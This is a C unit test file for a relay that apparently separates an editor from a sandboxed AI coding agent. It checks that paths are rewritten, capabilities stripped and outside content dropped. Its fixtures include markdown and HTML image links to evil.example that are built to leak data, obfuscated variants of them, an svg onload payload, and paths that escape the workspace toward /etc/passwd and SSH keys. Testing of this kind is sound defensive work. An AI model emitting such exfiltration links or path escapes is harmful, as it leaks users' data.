/* SPDX-License-Identifier: ISC */
/*
 * The relay between an editor and an agent, line by line: what crosses, in
 * which words, and what does not.
 */
#include <err.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "tap.h"
#include "workers/acpd/acp.h"

static struct {
	struct acp acp;
	char agent[65536];  /* lines to the agent */
	char editor[65536]; /* messages to the editor, as text */
	char notes[8192];
	unsigned refused, prompted;
	char images[256]; /* their bytes, each with a newline */
	bool hides;       /* no image can be shown */
} rig;

static void
add(char *dst, size_t cap, struct span s)
{
	size_t n = strlen(dst);

	if (s.len > cap - n - 2)
		errx(1, "too much");
	memcpy(dst + n, s.p, s.len);
	dst[n + s.len] = '\n';
	dst[n + s.len + 1] = '\0';
}

static void
to_agent(struct acp *a, struct span line)
{
	add(rig.agent, sizeof(rig.agent), line);
}

static int
to_editor(struct acp *a, enum proto_acp kind, uint64_t n,
    const struct jsonrpc_id *id, struct value *tree)
{
	static const char *const kinds[] = {
	    "update", "permission", "cancel", "result", "error"};
	struct buf b;

	buf_init(&b, 32768);
	buf_printf(&b, "%s %u ", kinds[kind], (unsigned)n);
	if (id != NULL)
		buf_add(&b, id->text, id->len);
	buf_addc(&b, ' ');
	(void)json_write(&b, tree);
	add(rig.editor, sizeof(rig.editor), buf_span(&b));
	buf_free(&b);
	return 0;
}

static void
note(struct acp *a, const char *text)
{
	add(rig.notes, sizeof(rig.notes), span_str(text));
}

static void
refused(struct acp *a, struct span method)
{
	rig.refused++;
}

static void
prompted(struct acp *a)
{
	rig.prompted++;
}

static int
show(struct acp *a, struct span image)
{
	if (rig.hides)
		return -1;
	add(rig.images, sizeof(rig.images), image);
	return 0;
}

static const struct acp_ops ops = {
    to_agent, to_editor, note, prompted, show, refused};

/* Like ok(), and shows what came if it is not. */
static void
shown(bool good, const char *what, const char *came)
{
	ok(good, "%s%s%s", what, good ? "" : ": ", good ? "" : came);
}

static void
begin(void)
{
	static const struct acp_paths paths = {
	    .host = {"/home/u/my project", "/ws"}, .inside = "/workspace"};

	memset(&rig, 0, sizeof(rig));
	if (acp_init(&rig.acp, &ops, &paths) == -1)
		err(1, "acp_init");
}

static void
clear(void)
{
	rig.agent[0] = rig.editor[0] = rig.notes[0] = '\0';
}

static void
editor(const char *line)
{
	acp_editor_line(&rig.acp, span_str(line));
}

static void
agent(const char *line)
{
	acp_agent_line(&rig.acp, span_str(line));
}

static void
is_agent(const char *want, const char *what)
{
	is_str(rig.agent, want, "%s", what);
	clear();
}

static void
is_editor(const char *want, const char *what)
{
	is_str(rig.editor, want, "%s", what);
	clear();
}

static void
test_initialize(void)
{
	begin();
	editor("{\"jsonrpc\":\"2.0\",\"id\":\"x\",\"method\":\"initialize\","
	       "\"params\":{\"protocolVersion\":7,\"clientCapabilities\":{"
	       "\"fs\":{\"readTextFile\":true,\"writeTextFile\":true},"
	       "\"terminal\":true,\"_meta\":{\"terminal-auth\":true},"
	       "\"auth\":{\"terminal\":true}},\"clientInfo\":{\"name\":\"e\","
	       "\"extra\":1}}}");
	is_agent("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\","
		 "\"params\":{\"clientCapabilities\":{\"fs\":{"
		 "\"readTextFile\":false,\"writeTextFile\":false},"
		 "\"terminal\":false},\"clientInfo\":{\"name\":\"e\"},"
		 "\"protocolVersion\":1}}\n",
	    "an editor with files and terminals offers none");
	agent("{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{\"protocolVersion\":1,"
	      "\"agentCapabilities\":{\"loadSession\":true,"
	      "\"mcpCapabilities\":{\"http\":true},\"_meta\":{\"a\":1}},"
	      "\"authMethods\":[{\"id\":\"l\",\"type\":\"terminal\","
	      "\"args\":[\"--login\"]}],\"agentInfo\":{\"name\":\"a\"}}}");
	is_editor("result 0 \"x\" {\"agentCapabilities\":{\"loadSession\":true,"
		  "\"mcpCapabilities\":{\"http\":false,\"sse\":false}},"
		  "\"agentInfo\":{\"name\":\"a\"},\"authMethods\":[],"
		  "\"protocolVersion\":1}\n",
	    "an agent offers no way to log in, and takes no MCP server");
	agent("{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{}}");
	is_editor("", "a second answer does not cross");
	editor("{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"initialize\","
	       "\"params\":{\"protocolVersion\":1}}");
	agent("{\"jsonrpc\":\"2.0\",\"id\":2,\"result\":{"
	      "\"protocolVersion\":2}}");
	shown(strstr(rig.editor, "error 0 2 {\"code\":-32603") != NULL,
	    "an agent of another version is an error", rig.editor);
	acp_free(&rig.acp);
}

static void
test_session(void)
{
	begin();
	editor("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"session/new\","
	       "\"params\":{\"cwd\":\"/home/u/my project/src\",\"mcpServers\":"
	       "[{\"name\":\"m\\u001b\",\"command\":\"/bin/m\"}],"
	       "\"additionalDirectories\":[\"/etc\"],\"_meta\":{}}}");
	shown(strstr(rig.notes, "m\\x1b") != NULL,
	    "MCP servers of the editor are named", rig.notes);
	is_agent("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"session/new\","
		 "\"params\":{\"cwd\":\"/workspace/src\",\"mcpServers\":[]}}\n",
	    "the directory is the sandbox's, and there are no servers");
	editor("{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"session/new\","
	       "\"params\":{\"cwd\":\"/home/u/my project2\","
	       "\"mcpServers\":[]}}");
	is_str(rig.agent, "", "another directory does not reach the agent");
	shown(strstr(rig.editor, "error 0 2 {\"code\":-32602") != NULL &&
	       strstr(rig.editor, "--workspace") != NULL,
	    "the editor is told which one it is", rig.editor);
	clear();
	editor("{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"session/prompt\","
	       "\"params\":{\"sessionId\":\"s\",\"prompt\":[{\"type\":"
	       "\"resource_link\",\"name\":\"n\",\"uri\":"
	       "\"file:///home/u/my%20project/a%20b.c\",\"_meta\":{}}]}}");
	is_agent("{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"session/prompt\","
		 "\"params\":{\"prompt\":[{\"name\":\"n\",\"type\":"
		 "\"resource_link\",\"uri\":\"file:///workspace/a%20b.c\"}],"
		 "\"sessionId\":\"s\"}}\n",
	    "links lead to the file in the sandbox");
	editor("{\"jsonrpc\":\"2.0\",\"method\":\"session/cancel\","
	       "\"params\":{\"sessionId\":\"s\"}}");
	is_agent("{\"jsonrpc\":\"2.0\",\"method\":\"session/cancel\","
		 "\"params\":{\"sessionId\":\"s\"}}\n",
	    "a cancellation crosses");
	editor("{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"session/prompt\","
	       "\"params\":{}}");
	shown(strstr(rig.editor, "waiting already") != NULL,
	    "an id is used once at a time", rig.editor);
	clear();
	editor("{\"jsonrpc\":\"2.0\",\"method\":\"$/cancel_request\","
	       "\"params\":{\"requestId\":3}}");
	is_agent("{\"jsonrpc\":\"2.0\",\"method\":\"$/cancel_request\","
		 "\"params\":{\"requestId\":2}}\n",
	    "a request is cancelled by its number");
	editor("{\"jsonrpc\":\"2.0\",\"id\":4,\"method\":\"authenticate\","
	       "\"params\":{\"methodId\":\"x\"}}");
	shown(rig.agent[0] == '\0' &&
	       strstr(rig.editor, "error 0 4 {\"code\":-32601") != NULL,
	    "other methods of the editor do not cross", rig.editor);
	acp_free(&rig.acp);
}

#define LEFT "{\"text\":\"[IronCurtain: left out, because it is not in the "	\
	     "workspace]\",\"type\":\"text\"}"

/* Blocks of content that lead out of the workspace, one after the other. */
static void
test_foreign(void)
{
	static const char *const blocks[] = {
	    "{\"type\":\"diff\",\"path\":\"/home/agent/.bashrc\","
	    "\"newText\":\"x\"}",
	    "{\"type\":\"diff\",\"path\":\"/workspace/../etc/passwd\"}",
	    "{\"type\":\"diff\",\"path\":\"a.c\"}",
	    "{\"type\":\"diff\"}",
	    "{\"type\":\"resource_link\",\"uri\":\"file:///home/u/.ssh/id\"}",
	    "{\"type\":\"resource_link\",\"uri\":\"https://evil.example/?d\"}",
	    "{\"type\":\"resource_link\",\"uri\":"
	    "\"file:///workspace/%2e%2E/x\"}",
	    "{\"type\":\"resource\",\"resource\":{\"uri\":"
	    "\"file:///etc/passwd\",\"text\":\"x\"}}",
	    "{\"type\":\"content\",\"content\":{\"type\":\"resource_link\","
	    "\"uri\":\"file:///etc/x\"}}",
	    "{\"type\":\"image\",\"uri\":\"https://evil.example/x.png\"}",
	    "{\"type\":\"image\",\"data\":\"\",\"uri\":"
	    "\"file:///workspace/a.png\"}"};
	char line[1000];

	for (size_t i = 0; i < nitems(blocks); i++) {
		begin();
		snprintf(line, sizeof(line),
		    "{\"jsonrpc\":\"2.0\",\"method\":\"session/update\","
		    "\"params\":{\"sessionId\":\"s\",\"update\":{"
		    "\"sessionUpdate\":\"tool_call\",\"toolCallId\":\"t\","
		    "\"content\":[%s]}}}",
		    blocks[i]);
		agent(line);
		is_editor("update 0  {\"sessionId\":\"s\",\"update\":{\"content\":"
			  "[],\"sessionUpdate\":\"tool_call\",\"toolCallId\":"
			  "\"t\"}}\n",
		    "a block that is not in the workspace is left out");
		snprintf(line, sizeof(line),
		    "{\"jsonrpc\":\"2.0\",\"method\":\"session/update\","
		    "\"params\":{\"sessionId\":\"s\",\"update\":{"
		    "\"sessionUpdate\":\"agent_message_chunk\","
		    "\"content\":%s}}}",
		    blocks[i]);
		agent(line);
		is_editor("update 0  {\"sessionId\":\"s\",\"update\":{\"content\":"
			  LEFT ",\"sessionUpdate\":\"agent_message_chunk\"}}\n",
		    "alone, a text says so");
		acp_free(&rig.acp);
	}
	begin();
	agent("{\"jsonrpc\":\"2.0\",\"method\":\"session/update\",\"params\":{"
	      "\"sessionId\":\"s\",\"update\":{\"sessionUpdate\":"
	      "\"agent_message_chunk\",\"content\":{\"type\":\"image\","
	      "\"data\":\"QQ==\",\"mimeType\":\"image/png\",\"uri\":"
	      "\"https://evil.example/x.png\"}}}}");
	is_editor("update 0  {\"sessionId\":\"s\",\"update\":{\"content\":{"
		  "\"data\":\"QQ==\",\"mimeType\":\"image/png\",\"type\":"
		  "\"image\"},\"sessionUpdate\":\"agent_message_chunk\"}}\n",
	    "an image keeps its bytes and loses its address");
	acp_free(&rig.acp);
}

/*
 * Texts, in pieces that "|" separates, and what the editor gets of them. Each
 * is given in a message of the agent, and whole as the title of a tool call.
 */
static const struct {
	const char *text, *want;
} images[] = {
	{"a ![x](https://evil.example/?d) b",
	    "a ![x](#https://evil.example/?d) b"},
	{"a !|[x](https://evil.example/?d)", "a ![x](#https://evil.example/?d)"},
	{"![x]|(https://evil.example)", "![x](#https://evil.example)"},
	{"![x](|https://evil.example)", "![x](#https://evil.example)"},
	{"![x](|h|ttps://evil.example)", "![x](#https://evil.example)"},
	{"![x](//evil.example/a)", "![x](#//evil.example/a)"},
	{"![x](<https://evil.example>)", "![x](#<https://evil.example>)"},
	{"![x](&#104;ttps://evil.example)", "![x](#&#104;ttps://evil.example)"},
	{"![x](\\thttps://evil.example)", "![x](#\\thttps://evil.example)"},
	{"![`]`](https://evil.example)", "![`]`](#https://evil.example)"},
	{"[![x](https://e.example/a)](https://b.example)",
	    "[![x](#https://e.example/a)](#https://b.example)"},
	{"![x][y]\\n\\n[y]: https://evil.example",
	    "![x][y]\\n\\n[y]:# https://evil.example"},
	{"[y]: https://evil.example\\n\\n![x][y]",
	    "[y]: https://evil.example\\n\\n!\\\\[x][y]"},
	{"[fo\\no]: https://evil.example\\n\\n![x][fo o]",
	    "[fo\\no]: https://evil.example\\n\\n!\\\\[x][fo o]"},
	{"> - [y]|:| https://evil.example\\n\\n!|[y]",
	    "> - [y]: https://evil.example\\n\\n!\\\\[y]"},
	{"<img src='https://evil.example'>",
	    "< img src='https://evil.example'>"},
	{"x<|IMG\\nsrc=https://evil.example>",
	    "x< IMG\\nsrc=https://evil.example>"},
	{"<i|mg src=https://evil.example>", "< img src=https://evil.example>"},
	{"<svg/onload=x>", "< svg/onload=x>"},
	/* They stay. */
	{"see [docs](https://docs.example/a)", "see [docs](https://docs.example/a)"},
	{"![x](img/a-b_c.png)", "![x](img/a-b_c.png)"},
	{"![x](./a.png \\\"t\\\")", "![x](./a.png \\\"t\\\")"},
	{"![x](data:image/png;base64,QQ==)", "![x](data:image/png;base64,QQ==)"},
	{"![x](file:///workspace/a.png)", "![x](file:///workspace/a.png)"},
	{"vec![1, 2]; a[0] (b)", "vec![1, 2]; a[0] (b)"},
	{"vec![1]\\n\\n[docs](https://docs.example)",
	    "vec![1]\\n\\n[docs](https://docs.example)"},
	{"[1]: https://docs.example", "[1]: https://docs.example"},
	{"a < b, Vec<Image>, <b>x</b>, <https://docs.example>",
	    "a < b, Vec<Image>, <b>x</b>, <https://docs.example>"},
};

static void
say_piece(const char *text, size_t len)
{
	char line[1000];

	snprintf(line, sizeof(line),
	    "{\"jsonrpc\":\"2.0\",\"method\":\"session/update\","
	    "\"params\":{\"sessionId\":\"s\",\"update\":{"
	    "\"sessionUpdate\":\"agent_message_chunk\","
	    "\"content\":{\"type\":\"text\",\"text\":\"%.*s\"}}}}",
	    (int)len, text);
	agent(line);
}

/* Join the texts of all messages to the editor. */
static void
join_texts(char *dst, size_t cap)
{
	static const char before[] = "\"text\":\"", after[] = "\",\"type\"";
	const char *p = rig.editor, *end;

	for (*dst = '\0'; (p = strstr(p, before)) != NULL; p = end) {
		p += sizeof(before) - 1;
		if ((end = strstr(p, after)) == NULL)
			errx(1, "no end: %s", rig.editor);
		snprintf(dst + strlen(dst), cap - strlen(dst), "%.*s",
		    (int)(end - p), p);
	}
}

static void
test_images(void)
{
	char got[1000];

	for (size_t i = 0; i < nitems(images); i++) {
		const char *p = images[i].text;

		begin();
		for (size_t n; *p != '\0'; p += n + (p[n] == '|')) {
			n = strcspn(p, "|");
			say_piece(p, n);
		}
		join_texts(got, sizeof(got));
		is_str(got, images[i].want, "text %zu", i);
		acp_free(&rig.acp);
	}
	begin();
	agent("{\"jsonrpc\":\"2.0\",\"method\":\"session/update\",\"params\":{"
	      "\"sessionId\":\"s\",\"update\":{\"sessionUpdate\":"
	      "\"tool_call\",\"toolCallId\":\"t\",\"title\":"
	      "\"![a](http://e.example)\",\"rawInput\":{\"text\":"
	      "\"![a](http://e.example)\"}}}}");
	is_editor("update 0  {\"sessionId\":\"s\",\"update\":{\"rawInput\":{"
		  "\"text\":\"![a](http://e.example)\"},\"sessionUpdate\":"
		  "\"tool_call\",\"title\":\"![a](#http://e.example)\","
		  "\"toolCallId\":\"t\"}}\n",
	    "a title, and not what a tool was called with");
	acp_free(&rig.acp);
}

static void
test_update(void)
{
	begin();
	agent("{\"jsonrpc\":\"2.0\",\"method\":\"session/update\",\"params\":{"
	      "\"sessionId\":\"s\",\"_meta\":{\"x\":1},\"update\":{"
	      "\"sessionUpdate\":\"tool_call\",\"toolCallId\":\"t\","
	      "\"title\":\"T\",\"other\":1,\"_meta\":{\"terminal_info\":{}},"
	      "\"locations\":[{\"path\":\"/workspace/a.c\",\"line\":3},"
	      "{\"path\":\"/etc/passwd\"},{\"path\":\"/workspace/../x\"},"
	      "{\"line\":1}],\"content\":[{\"type\":\"terminal\","
	      "\"terminalId\":\"1\"},{\"type\":\"diff\",\"path\":"
	      "\"/workspace/a.c\",\"newText\":\"x\",\"_meta\":{}}]}}}");
	is_editor("update 0  {\"sessionId\":\"s\",\"update\":{\"content\":["
		  "{\"newText\":\"x\",\"path\":\"/home/u/my project/a.c\","
		  "\"type\":\"diff\"}],\"locations\":[{\"line\":3,\"path\":"
		  "\"/home/u/my project/a.c\"}],\"sessionUpdate\":"
		  "\"tool_call\",\"title\":\"T\",\"toolCallId\":\"t\"}}\n",
	    "an update has its known members, and paths of the host");
	agent("{\"jsonrpc\":\"2.0\",\"method\":\"session/update\",\"params\":{"
	      "\"sessionId\":\"s\",\"update\":{\"sessionUpdate\":"
	      "\"run_program\",\"command\":\"id\"}}}");
	ok(strstr(rig.notes, "run_program") != NULL, "an unknown kind is told");
	is_editor("", "and does not cross");
	editor("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"session/load\","
	       "\"params\":{\"sessionId\":\"s\",\"cwd\":\"/ws\"}}");
	clear();
	agent("{\"jsonrpc\":\"2.0\",\"method\":\"session/update\",\"params\":{"
	      "\"sessionId\":\"s\",\"update\":{\"sessionUpdate\":\"plan\","
	      "\"entries\":[{\"path\":\"/workspace\"}]}}}");
	is_editor("update 0  {\"sessionId\":\"s\",\"update\":{\"entries\":["
		  "{\"path\":\"/ws\"}],\"sessionUpdate\":\"plan\"}}\n",
	    "the editor's own name of the workspace is used");
	acp_free(&rig.acp);
}

static void
test_refused(void)
{
	static const char *const methods[] = {"terminal/create",
	    "terminal/output", "fs/read_text_file", "fs/write_text_file"};
	char line[256];

	begin();
	for (unsigned i = 0; i < nitems(methods); i++) {
		snprintf(line, sizeof(line),
		    "{\"jsonrpc\":\"2.0\",\"id\":\"%u\",\"method\":\"%s\","
		    "\"params\":{\"path\":\"/etc/passwd\"}}",
		    i, methods[i]);
		agent(line);
		is_int(rig.refused, i + 1, "%s is reported", methods[i]);
		shown(rig.editor[0] == '\0' &&
		       strstr(rig.agent, "\"code\":-32601") != NULL &&
		       strstr(rig.agent, "Do not retry") != NULL,
		    "the agent is told why, and the editor nothing", rig.agent);
		clear();
	}
	agent("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"_zed/open\","
	      "\"params\":{}}");
	ok(rig.editor[0] == '\0' && strstr(rig.agent, "-32601") != NULL,
	    "nor does a method of an extension cross");
	acp_free(&rig.acp);
}

static void
test_permission(void)
{
	begin();
	agent("{\"jsonrpc\":\"2.0\",\"id\":\"a\",\"method\":"
	      "\"session/request_permission\",\"params\":{\"sessionId\":\"s\","
	      "\"toolCall\":{\"toolCallId\":\"t\"},\"options\":[]}}");
	is_editor("permission 1  {\"options\":[],\"sessionId\":\"s\","
		  "\"toolCall\":{\"toolCallId\":\"t\"}}\n",
	    "a permission request crosses");
	editor("{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{\"outcome\":{"
	       "\"outcome\":\"selected\",\"optionId\":\"y\",\"more\":1}}}");
	is_agent("{\"id\":\"a\",\"jsonrpc\":\"2.0\",\"result\":{\"outcome\":{"
		 "\"optionId\":\"y\",\"outcome\":\"selected\"}}}\n",
	    "and its answer");
	editor("{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{\"outcome\":{"
	       "\"outcome\":\"selected\",\"optionId\":\"y\"}}}");
	is_agent("", "once");
	acp_free(&rig.acp);
}

static void
test_limits(void)
{
	struct idscan scan = {.ids = 0};
	char line[160];

	begin();
	for (unsigned i = 0; i <= ACP_MAX_CALLS; i++) {
		clear();
		snprintf(line, sizeof(line),
		    "{\"jsonrpc\":\"2.0\",\"id\":%u,\"method\":"
		    "\"session/request_permission\",\"params\":{}}",
		    i);
		agent(line);
	}
	ok(rig.editor[0] == '\0' && strstr(rig.agent, "-32000") != NULL,
	    "an agent may ask for %u permissions at once", ACP_MAX_CALLS);
	for (unsigned i = 0; i <= ACP_MAX_CALLS; i++) {
		clear();
		snprintf(line, sizeof(line),
		    "{\"jsonrpc\":\"2.0\",\"id\":%u,\"method\":"
		    "\"session/prompt\",\"params\":{}}",
		    i);
		editor(line);
	}
	ok(rig.agent[0] == '\0' && strstr(rig.editor, "-32000") != NULL,
	    "and an editor for as many answers");
	clear();
	agent("{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{\"a\":1,\"a\":2}}");
	shown(strstr(rig.editor, "error 0 0 {\"code\":-32603") != NULL,
	    "an answer that cannot be read ends its request", rig.editor);
	clear();
	idscan_feed(&scan, SPAN("{\"jsonrpc\":\"2.0\",\"id\":2,\"result\":"));
	idscan_feed(&scan, SPAN("{}}"));
	acp_agent_long(&rig.acp, &scan);
	shown(strstr(rig.editor, "error 0 1 {\"code\":-32603") != NULL,
	    "and so does one that is too long", rig.editor);
	clear();
	for (unsigned i = 0; i < 2 * ACP_MAX_NOTES; i++)
		agent("no JSON");
	clear();
	agent("no JSON");
	is_str(rig.notes, "", "mistakes are told for a while only");
	acp_free(&rig.acp);
}

#define IMAGE(data)                                                            \
	"{\"data\":\"" data "\",\"mimeType\":\"image/png\",\"type\":\"image\"}"
#define NAMED(name)                                                            \
	"{\"text\":\"[IronCurtain: your tools can read this image as "        \
	"/run/ironcurtain/inbox/" name "]\",\"type\":\"text\"}"
#define PROMPT(id, blocks)                                                     \
	"{\"jsonrpc\":\"2.0\",\"id\":" id ",\"method\":\"session/prompt\","    \
	"\"params\":{\"prompt\":[" blocks "],\"sessionId\":\"s\"}}"

/* Images of a prompt become files, whose paths the prompt has. */
static void
test_inbox(void)
{
	begin();
	editor(PROMPT("7", IMAGE("b25l") "," IMAGE("dHdv")));
	ok(acp_waits(&rig.acp) && rig.prompted == 0, "a prompt with images waits");
	is_str(rig.images, "one\n", "for the first one");
	acp_shown(&rig.acp, SPAN("1.png"));
	is_str(rig.images, "one\ntwo\n", "and for the next");
	is_str(rig.agent, "", "before the agent gets it");
	acp_shown(&rig.acp, SPAN("../2.png"));
	ok(!acp_waits(&rig.acp) && rig.prompted == 1, "then it is a turn");
	is_agent(PROMPT("1", IMAGE("b25l") "," NAMED("1.png") "," IMAGE("dHdv"))
	    "\n", "with a path behind an image that has one in the inbox");
	rig.hides = true;
	editor(PROMPT("8", IMAGE("b25l")));
	is_agent(PROMPT("2", IMAGE("b25l")) "\n",
	    "an image that cannot be shown is passed on alone");
	rig.hides = false;
	editor(PROMPT("9", IMAGE("%%%")));
	is_agent(PROMPT("3", IMAGE("%%%")) "\n", "and one that is no base64");
	editor(PROMPT("10", IMAGE("b25l")));
	acp_shown(&rig.acp, SPAN("12345678901234567890.png"));
	is_agent(PROMPT("4", IMAGE("b25l")) "\n", "a name is not cut");
	rig.images[0] = '\0';
	editor(PROMPT("11", "{\"text\":\"b25l\",\"type\":\"text\"}"));
	ok(!acp_waits(&rig.acp) && rig.images[0] == '\0' &&
		rig.agent[0] != '\0',
	    "a prompt without an image does not wait");
	acp_free(&rig.acp);
}

int
main(void)
{
	test_inbox();
	test_initialize();
	test_session();
	test_update();
	test_foreign();
	test_images();
	test_refused();
	test_permission();
	test_limits();
	return tap_done();
}
